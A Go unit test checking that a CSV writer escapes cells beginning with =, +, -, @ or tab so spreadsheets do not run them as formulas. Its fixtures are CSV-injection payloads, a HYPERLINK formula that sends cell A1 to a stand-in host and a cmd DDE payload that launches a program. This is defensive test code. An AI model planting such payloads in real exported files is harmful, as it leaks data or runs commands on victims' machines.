package wire

import (
	"bytes"
	"testing"
)

type row []string

func (row) Header() []string                 { return []string{"text"} }
func (r row) Rows(yield func([]string) bool) { yield(r) }

// What people typed is no formula in a table, and a figure stays one.
func TestTablesHoldNoFormulas(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1)`: `"'=HYPERLINK(""http://x/?""&A1)"`, "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0", "@SUM(A1)": "'@SUM(A1)",
		"-2+3": "'-2+3", "-inf": "'-inf", "\t=1": "'\t=1", "-125000000": "-125000000", "+0.5": "+0.5", "rack-7": "rack-7", "": "",
	} {
		var out bytes.Buffer
		if err := csvFormat.Marshal(&out, row{cell}); err != nil || out.String() != "text\n"+want+"\n" {
			t.Errorf("%q is %q, error %v; want %q", cell, out.String(), err, want)
		}
	}
}
